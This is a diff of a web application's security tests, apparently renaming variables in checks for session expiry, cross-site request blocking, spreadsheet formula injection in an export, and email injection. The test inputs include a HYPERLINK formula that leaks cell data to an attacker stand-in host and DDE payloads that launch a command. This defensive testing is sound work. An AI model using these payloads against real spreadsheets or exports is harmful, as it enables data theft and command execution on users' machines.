@@ -122,15 +122,18 @@ describe('a session', () => {
   test('from yesterday has expired, and so has one that was idle for two hours', async () => {
     const token = await signInAsAdmin(target)
     expect(await countSessions(buildCookie(token))).toBe(200)
-    const later = await startTarget({ CLOCK: '2025-10-10T14:30:00+05:30' }, ({ dataDir }) =>
+    const laterTarget = await startTarget({ CLOCK: '2025-10-10T14:30:00+05:30' }, ({ dataDir }) =>
       cpSync(target.dataDir, dataDir, { recursive: true }),
     )
     try {
-      const { status } = await later.send({ path: '/admin/session/', headers: buildCookie(token) })
+      const { status } = await laterTarget.send({
+        path: '/admin/session/',
+        headers: buildCookie(token),
+      })
       expect(status).toBe(401)
-      expect((await later.send({ path: '/admin/session/' })).status).toBe(401)
+      expect((await laterTarget.send({ path: '/admin/session/' })).status).toBe(401)
     } finally {
-      await later.stop()
+      await laterTarget.stop()
     }
   })
 })
@@ -218,15 +221,15 @@ describe('a page of another site', () => {
         path,
         headers: { ...buildCookie(token), 'sec-fetch-site': 'cross-site' },
       })
-    const { audit_log: _auditEntries, ...changed } = findChanges(
+    const { audit_log: _auditEntries, ...changedTables } = findChanges(
       snapshotBefore,
       target.readHoldings(),
     )
-    expect(changed).toEqual({})
+    expect(changedTables).toEqual({})
     expect(await countSessions(buildCookie(token))).toBe(200)
   })
 
-  test('learns nothing: no response can be read, framed or inferred', async () => {
+  test('gets no information: no response can be read, framed or inferred', async () => {
     const token = await signInAsAdmin(target)
     for (const { path } of routes.filter(({ method }) => method === 'GET')) {
       const headers = { ...buildCookie(token), origin: 'https://evil.example' }
@@ -248,16 +251,16 @@ describe('an export of the office', () => {
   const formulas = [
     ...formulaStarts.map((formulaStart) => `${formulaStart}1+1`),
     ...formulaStarts.map((formulaStart) => ` ${formulaStart}1+1`),
-    ...formulaStarts.map((lead) => `x;${lead}1+1;y`),
-    ...formulaStarts.map((lead) => `x\t${lead}1+1`),
-    ...formulaStarts.map((lead) => `x\r\n${lead}1+1`),
-    ...formulaStarts.map((lead) => `x\r${lead}1+1`),
-    ...formulaStarts.map((lead) => `x",${lead}1+1`),
-    ...formulaStarts.map((lead) => `\u200b${lead}1+1`),
-    ...formulaStarts.map((lead) => `\ufeff${lead}1+1`),
-    ...formulaStarts.map((lead) => `\u200d${lead}1+1`),
-    ...formulaStarts.map((lead) => `\ufe0f\u200c${lead}1+1`),
-    ...formulaStarts.map((lead) => `x;\u200d${lead}1+1`),
+    ...formulaStarts.map((start) => `x;${start}1+1;y`),
+    ...formulaStarts.map((start) => `x\t${start}1+1`),
+    ...formulaStarts.map((start) => `x\r\n${start}1+1`),
+    ...formulaStarts.map((start) => `x\r${start}1+1`),
+    ...formulaStarts.map((start) => `x",${start}1+1`),
+    ...formulaStarts.map((start) => `\u200b${start}1+1`),
+    ...formulaStarts.map((start) => `\ufeff${start}1+1`),
+    ...formulaStarts.map((start) => `\u200d${start}1+1`),
+    ...formulaStarts.map((start) => `\ufe0f\u200c${start}1+1`),
+    ...formulaStarts.map((start) => `x;\u200d${start}1+1`),
     '=HYPERLINK("http://evil.example/?"&A1,"see")',
     "=cmd|' /C calc'!A0",
     "@SUM(1+1)*cmd|' /C calc'!A0",
@@ -464,7 +467,7 @@ describe('a crafted name', () => {
   test('as an email address loses invisible characters, and no email has two recipients', async () => {
     for (const email of ['x@example.org\u0000', '<x@example.org>', 'x@example.org\u0008'])
       await target.post(REGISTER, { ...delegate, email })
-    for (const { email } of target.rows('SELECT email FROM registrations'))
+    for (const { email } of target.readRows('SELECT email FROM registrations'))
       expect(email).toMatch(/^<?[\w.]+@example\.org>?$/)
   })
 
